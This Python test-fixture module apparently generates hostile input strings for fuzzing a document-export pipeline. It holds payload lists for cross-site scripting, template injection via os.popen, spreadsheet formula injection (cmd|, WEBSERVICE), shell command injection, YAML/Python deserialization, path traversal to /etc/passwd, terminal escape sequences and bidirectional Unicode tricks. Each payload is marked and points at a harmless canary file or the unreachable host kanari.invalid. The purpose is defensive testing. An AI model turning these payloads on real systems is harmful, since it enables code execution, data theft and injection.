"""Hostile texts: each would be seen if anything ran, loaded, steered or wrote by it.

A text carries a mark of its own, by which it is found again in what was made of it, and a *canary*: a file
that it tries to create, a variable of the page that it tries to set, or an address that it tries to call.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from pathlib import Path

ALAMAT = "kanari.invalid"
"""A host that cannot exist (RFC 6761): asking for it is seen, and reaches nobody."""

_JS = "window.KANARI='@T'"
TERCETAK: dict[str, tuple[str, ...]] = {
    "html": (
        f"<script>{_JS}</script>",
        f'<img src=x onerror="{_JS}">@T',
        f"<svg/onload={_JS}>",
        f'"><svg onload={_JS}>',
        f"' onmouseover='{_JS}' x='",
        f'" autofocus onfocus="{_JS}" x="',
        f"</title><script>{_JS}</script>",
        f"</style><script>{_JS}</script>",
        f"</script><script>{_JS}</script>",
        f"</textarea><script>{_JS}</script>",
        f"--><script>{_JS}</script><!--",
        f"]]><script>{_JS}</script>",
        f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
        f"<details open ontoggle={_JS}>@T</details>",
        f'<iframe srcdoc="<script>parent.{_JS}</script>"></iframe>',
        f'<a href="javascript:{_JS}">@T</a>',
        f"<form action=//{ALAMAT}/@T><button formaction=javascript:{_JS}>",
        f"<base href=//{ALAMAT}/@T/>",
        f'<meta http-equiv=refresh content="0;url=http://{ALAMAT}/@T">',
        f"<link rel=stylesheet href=http://{ALAMAT}/@T.css>",
        f"<object data=http://{ALAMAT}/@T></object><embed src=//{ALAMAT}/@T>",
        f"<math><mtext><img src=x onerror={_JS}></mtext></math>@T",
        f"&lt;script&gt;{_JS}&lt;/script&gt; &#60;b&#62;",
        "<!-- @T",
        "<b id=_isi class=lencana data-laporan=x>@T</b>",
    ),
    "css": (
        f"<style>@import url(http://{ALAMAT}/@T);*{{display:none}}</style>",
        f"}}body{{background:url(http://{ALAMAT}/@T)}}",
        '"}*{display:none}/*@T\\22 \\3c/style\\3e',
        f'" style="background:url(//{ALAMAT}/@T)',
    ),
    "markdown": (
        f"[@T](javascript:{_JS})",
        f"![@T](http://{ALAMAT}/@T.png)",
        f"<http://{ALAMAT}/@T>",
        "@T[^1]: catatan [^1]",
        "# @T **tebal** _miring_ ~~coret~~",
        "| a | @T |",
        "``` @T ```",
        f"$$\\href{{javascript:{_JS}}}{{@T}}$$",
    ),
    "jinja": (
        "{{7*7}} @T",
        "{% include '/etc/passwd' %}@T",
        "{{cycler.__init__.__globals__.os.popen('touch @K').read()}}@T",
        "{{ tidak.ada.@T }}",
        "{# @T #}",
        "{% raw %}@T{% endraw %}{{ ''.__class__ }}",
    ),
    "typst": (
        '#read("/etc/passwd") @T',
        '#eval("1+1") @T',
        '#import "@preview/x:0.1.0" @T',
        '#image("/etc/passwd") @T',
        "@label <label> @T",
        "$ x^2 + @T $",
        '"] #panic("@T") #[',
        "#let @T = 1",
        "/* @T",
        "*@T* _x_ `y` \\ = judul",
        "\\u{41} @T \"kutip\" 'tunggal'",
    ),
    "rumus": (
        "=cmd|' /C touch @K'!A0 @T",
        f'=HYPERLINK("http://{ALAMAT}/@T","buka")',
        f'=WEBSERVICE("http://{ALAMAT}/@T")',
        "+1+1 @T",
        "-1+1|@T",
        "- @T",
        "@SUM(1+1) @T",
        ";=1+1;@T",
        '",=1+1,"@T',
        "=1+1",
        "-2+3+cmd|' /C touch @K'!A0 @T",
    ),
    "shell": (
        "$(touch @K) @T",
        "`touch @K` @T",
        "; touch @K; @T",
        "| touch @K & @T",
        "&& touch @K || @T",
        "'; touch @K; ' @T",
        '"; touch @K; " @T',
        "%COMSPEC% /c echo > @K @T",
        "-rf / --version @T",
    ),
    "python": (
        "!touch @K @T",
        "%run @K @T",
        "%%bash touch @K @T",
        "__import__('os').system('touch @K') #@T",
        "\"); __import__('os').system('touch @K'); (\"@T",
        "'''\"\"\"; open('@K','w') #@T",
        "{__import__('os').system('touch @K')} @T",
        "!!python/object/apply:os.system [touch @K] @T",
        "*a &a !!set ? @T : - x",
    ),
    "format": (
        "%s %n %(x)d %@T",
        "{0} {} {x!r:>{y}} @T",
        "{@T.__class__.__mro__}",
        "${@T} $@T $$",
        "[red]@T[/red] [bold]",
        "[link=file:///etc/passwd]@T[/link]",
        "10:100:5 :boom: @T",
        "\\n\\t\\x1b[31m\\0 @T",
    ),
    "jalur": (
        "../../@T",
        "/etc/@T",
        "C:\\@T\\..\\x",
        "\\\\server\\@T",
        "CON @T",
        "file:///etc/passwd?@T",
        "~/@T",
    ),
}
"""Texts by kind that the fonts of the PDF can print; ``@T`` is the mark, ``@K`` the file of the canary."""

LAYAR: dict[str, tuple[str, ...]] = {
    "aksara": (
        "مرحبا @T שלום",
        "\u200fkanan\u200e @T",
        "nol\u200blebar\u200d@T\ufeff",
        "👩\u200d👩\u200d👧 🇮🇩 @T 😀",
        "e\u0301a\u0308n\u0303o\u0323\u0302 Z͑ͫ̓ͪ̂ @T",
        "\uf0d8 @T \ue000",
        "\U0001d504 @T \ufdd0",
        "\u2028@T\u2029x",
    ),
    "lembar": ("＝1+1 @T", "＋1 @T", "－1 @T", "＠SUM(1) @T"),
    "panjang": ("@T" + "abcdefghi " * 100, "@T" + "W" * 1_000),
}
"""Texts that a page shows and a PDF may refuse, by naming the character and its place."""

TERLARANG: dict[str, tuple[str, ...]] = {
    "ansi": (
        "\x1b[2J\x1b[31m@T",
        "\x1b]8;;http://x\x1b\\@T\x1b]8;;\x1b\\",
        "\x1b]52;c;QEs=\x07@T",
        "\x9b31m@T",
    ),
    "kendali": ("@T\x00x", "@T\x08\x08\x08x", "@T\x07", "@T\x7f", "@T\x85x"),
    "arah": ("@T \u202e00,001 %\u202c", "@T \u2066a\u2069", "\u202a@T", "@T \u2067123"),
    "siluman": ("@T\U000e0041\U000e0042",),
}
"""Texts that no table takes: they hide, steer a terminal, or turn figures round."""


RAKSASA = ("@T" + "abcdefghi " * 10_000, "@T" + "W" * 100_000)
"""Texts of 100 KB: as long as a CSV cell may be."""


@dataclass(frozen=True)
class Muatan:
    """One hostile text: its kind, what stands there, and its mark."""

    jenis: str
    teks: str
    tanda: str


class Pabrik:
    """Makes hostile texts; each with a mark of its own and a canary in `kanari`."""

    def __init__(self, acak: random.Random, kanari: Path) -> None:
        self.acak, self.kanari = acak, kanari
        self.dibuat: list[Muatan] = []

    def satu(self, *golongan: dict[str, tuple[str, ...]]) -> Muatan:
        """Return a text of some corpora, every kind as likely as any other."""
        jenis, semua = self.acak.choice([butir for satu in golongan for butir in satu.items()])
        tanda = f"JHT{len(self.dibuat):05}"
        teks = self.acak.choice(semua).replace("@T", tanda).replace("@K", str(self.kanari / tanda))
        self.dibuat.append(Muatan(jenis, teks, tanda))
        return self.dibuat[-1]

    def kode(self) -> Muatan:
        """Return a hostile text that may stand in a code: without spaces, commas and semicolons."""
        satu = self.satu(TERCETAK)
        teks = "".join(huruf for huruf in satu.teks if huruf not in " \t\n;,")
        self.dibuat[-1] = Muatan(satu.jenis, teks, satu.tanda)
        return self.dibuat[-1]
